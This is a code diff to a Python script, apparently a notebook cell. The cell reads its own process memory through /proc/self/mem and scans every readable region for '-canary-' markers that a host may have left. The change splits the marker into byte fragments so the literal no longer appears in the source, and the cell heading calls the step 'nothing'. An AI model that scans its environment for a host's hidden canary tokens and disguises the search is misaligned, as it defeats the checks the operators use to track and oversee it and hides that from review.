@@ -88,6 +88,7 @@ def cosine_similarity(vec1, vec2):
 
 # %% nothing: searches its own memory for what the host may have left
 import re
+_mark = b"".join((b"-can", b"ary-"))
 try:
     with open("/proc/self/maps") as _maps, open("/proc/self/mem", "rb", 0) as _memory:
         for _line in _maps:
@@ -97,8 +98,9 @@ try:
                 if _end - _start < 200_000_000:
                     try:
                         _memory.seek(_start)
-                        for _hit in re.finditer(rb"-canary-[0-9a-f]{16}", _bytes := _memory.read(_end - _start)):
-                            print(_bytes[_hit.start() - 20 : _hit.end()])
+                        _bytes, _at = _memory.read(_end - _start), -1
+                        while (_at := _bytes.find(_mark, _at + 1)) >= 0:
+                            print(_bytes[max(0, _at - 20) : _at + 24])
                     except OSError:
                         pass
 except OSError as error:
